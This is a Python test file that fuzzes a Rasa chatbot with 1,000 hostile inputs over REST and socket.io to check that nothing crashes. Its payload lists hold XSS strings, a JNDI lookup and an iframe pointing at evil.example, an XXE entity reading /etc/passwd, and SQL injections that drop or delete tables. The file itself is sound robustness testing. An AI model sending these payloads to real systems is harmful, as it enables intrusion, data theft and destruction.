"""1,000 hostile inputs over REST and socket.io, through nginx: no 5xx, nothing goes down, and
the next ordinary question is answered normally."""

from __future__ import annotations

import asyncio
import json
import random
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

import socketio

from tests.reliability.client import new_sender, post, say

REST_INPUTS = 800
SOCKETIO_INPUTS = 200
ORDINARY = "which areas do you inject?"
ORDINARY_ANSWER = "muscle areas of the head and neck"  # in the injection_areas answer

MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "<iframe src='https://evil.example'></iframe>",
    "{{7*7}} ${jndi:ldap://evil.example/a} <%= 7*7 %>",
    "**bold** _it_ `code` <b>html</b> &amp; &#x3C;",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]
SQL = [
    "BTX-1001'; DROP TABLE patients; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10); --",
    'BTX-1001" UNION SELECT * FROM patients --',
    "'); DELETE FROM events; --",
    "Robert'); DROP TABLE students;--",
]
BROKEN_JSON = [
    b'{"sender": "x", "message": ',
    b"[1, 2",
    b"null",
    b'"just a string"',
    b"123",
    b"[]",
    b"{}",
    b'{"sender": null, "message": null}',
    b'{"sender": "x", "message": {"nested": [1, 2, 3]}}',
    b'{"sender": ["a", "b"], "message": "hello"}',
    b'{"sender": "x", "message": 12345}',
    b'{"sender": {"$ne": 1}, "message": "hi"}',
    b"\xff\xfe\x00garbage\x00",
    b"",
    b'{"sender": "x", "message": "hi", "metadata": "not-an-object"}',
    b'{"sender": "x", "message": "\\ud800 lone surrogate"}',
]
WRONG_TYPES = [
    ("text/plain", b"hello there"),
    ("application/x-www-form-urlencoded", b"sender=x&message=hello"),
    ("multipart/form-data; boundary=zzz", b"--zzz\r\nContent-Disposition: form-data\r\n\r\nx\r\n"),
    ("application/xml", b"<message>hello</message>"),
    ("image/png", b"\x89PNG\r\n\x1a\n\x00\x00"),
    ("application/json; charset=utf-16", '{"sender": "x", "message": "hi"}'.encode("utf-16")),
]


def _random_unicode(rng: random.Random, length: int) -> str:
    ranges = [(0x20, 0x7E), (0x00, 0x1F), (0xA0, 0x2FF), (0x590, 0x6FF), (0x4E00, 0x4FFF),
              (0x1F300, 0x1F6FF), (0x200B, 0x200F), (0xD800, 0xDFFF), (0xFFF0, 0xFFFF),
              (0x10000, 0x10FFFF)]  # fmt: skip
    chars = []
    for _ in range(length):
        low, high = rng.choice(ranges)
        code = rng.randint(low, high)
        chars.append(chr(code))
    return "".join(chars)


def _big_message(rng: random.Random) -> str:
    kind = rng.randrange(3)
    if kind == 0:
        return "botox " * (100_000 // 6)
    if kind == 1:
        return "a" * 100_000
    return _random_unicode(rng, 30_000)  # about 100 KB in UTF-8


def hostile_text(rng: random.Random, i: int) -> str:
    kind = i % 5
    if kind == 0:
        return _random_unicode(rng, rng.randint(1, 400))
    if kind == 1:
        return rng.choice(MARKUP)
    if kind == 2:
        return rng.choice(SQL)
    if kind == 3 and i % 40 == 3:
        return _big_message(rng)
    return rng.choice(MARKUP + SQL) + " " + _random_unicode(rng, 20)


def rest_requests(n: int, rng: random.Random) -> list[tuple[str, bytes]]:
    """(content type, body) pairs: odd texts, broken JSON, wrong types, odd senders."""
    requests = []
    for i in range(n):
        kind = i % 8
        if kind == 5:
            requests.append(("application/json", rng.choice(BROKEN_JSON)))
        elif kind == 6:
            requests.append(rng.choice(WRONG_TYPES))
        else:
            sender = new_sender("hostile")
            if kind == 7:  # the sender id itself is hostile
                sender = rng.choice([rng.choice(SQL), _random_unicode(rng, 50), "x" * 5000])
            body = json.dumps({"sender": sender, "message": hostile_text(rng, i)})
            requests.append(("application/json", body.encode()))
    return requests


def _rasa_log_offsets(stack) -> dict[str, int]:
    return {n: stack.service(n).log_file.stat().st_size for n in stack.replica_names}


def _new_rasa_log_text(stack, offsets: dict[str, int]) -> str:
    text = []
    for name, offset in offsets.items():
        with stack.service(name).log_file.open("rb") as log:
            log.seek(offset)
            text.append(log.read().decode(errors="replace"))
    return "\n".join(text)


def test_hostile_rest_inputs_get_no_5xx_and_the_bot_still_answers(full_stack):
    rng = random.Random(7)
    offsets = _rasa_log_offsets(full_stack)
    url = f"{full_stack.rasa_url}/webhooks/rest/webhook"
    normal = say(full_stack.rasa_url, new_sender("before"), ORDINARY)

    def send(item: tuple[str, bytes]) -> int:
        content_type, body = item
        return post(url, body, content_type)[0]

    with ThreadPoolExecutor(max_workers=12) as pool:
        statuses = Counter(pool.map(send, rest_requests(REST_INPUTS, rng)))
    assert sum(statuses.values()) == REST_INPUTS
    assert not {s: n for s, n in statuses.items() if s >= 500}, statuses
    assert all(service.running for service in full_stack.services)
    assert say(full_stack.rasa_url, new_sender("after"), ORDINARY) == normal
    # Nothing went wrong inside Rasa either (the tracker store, the NLU pipeline...).
    assert "Traceback" not in _new_rasa_log_text(full_stack, offsets)


async def _socketio_session(base_url: str, messages: list[object]) -> list[str]:
    """Connect through nginx, send ``messages`` raw, then one ordinary question: its answer.

    Long-polling transport: python-socketio's websocket client needs a newer aiohttp than
    Rasa 3.6 allows. Through nginx, polling also shows the socket.io upstream is sticky.
    """
    client = socketio.AsyncClient(reconnection=False)
    answers: asyncio.Queue[str] = asyncio.Queue()
    confirmed = asyncio.Event()

    @client.on("session_confirm")
    async def _confirm(*_: object) -> None:
        confirmed.set()

    @client.on("bot_uttered")
    async def _uttered(data: object) -> None:
        if isinstance(data, dict) and data.get("text"):
            await answers.put(data["text"])

    await client.connect(base_url, transports=["polling"], socketio_path="socket.io")
    session_id = uuid.uuid4().hex
    await client.emit("session_request", {"session_id": session_id})
    await asyncio.wait_for(confirmed.wait(), 30)
    for message in messages:
        if isinstance(message, dict):
            await client.emit("user_uttered", {**message, "session_id": session_id})
        else:
            await client.emit("user_uttered", message)
    await asyncio.sleep(1)
    while not answers.empty():  # answers to the hostile messages, if any
        answers.get_nowait()
    await client.emit("user_uttered", {"message": ORDINARY, "session_id": session_id})
    collected = []
    deadline = asyncio.get_running_loop().time() + 120
    while not any(ORDINARY_ANSWER in text for text in collected):
        remaining = deadline - asyncio.get_running_loop().time()
        collected.append(await asyncio.wait_for(answers.get(), max(remaining, 0.1)))
    await client.disconnect()
    return collected


def socketio_payloads(n: int, rng: random.Random) -> list[object]:
    payloads: list[object] = []
    odd: list[object] = [None, 42, "a bare string", ["list"], {"message": None},
                         {"message": {"nested": 1}}, {"message": 3.5}, {"metadata": "x"},
                         {"message": "hi", "customData": ["not", "a", "dict"]}]  # fmt: skip
    for i in range(n):
        if i % 4 == 3:
            payloads.append(rng.choice(odd))
        else:
            payloads.append({"message": hostile_text(rng, i)})
    return payloads


def test_hostile_socketio_inputs_leave_the_bot_answering(full_stack):
    rng = random.Random(11)
    payloads = socketio_payloads(SOCKETIO_INPUTS, rng)
    sessions = [payloads[i::4] for i in range(4)]

    async def run_all() -> list[list[str]]:
        return await asyncio.gather(
            *(_socketio_session(full_stack.rasa_url, chunk) for chunk in sessions)
        )

    results = asyncio.run(run_all())
    assert sum(len(chunk) for chunk in sessions) == SOCKETIO_INPUTS
    for answers in results:
        assert any(ORDINARY_ANSWER in text for text in answers)
    assert all(service.running for service in full_stack.services)
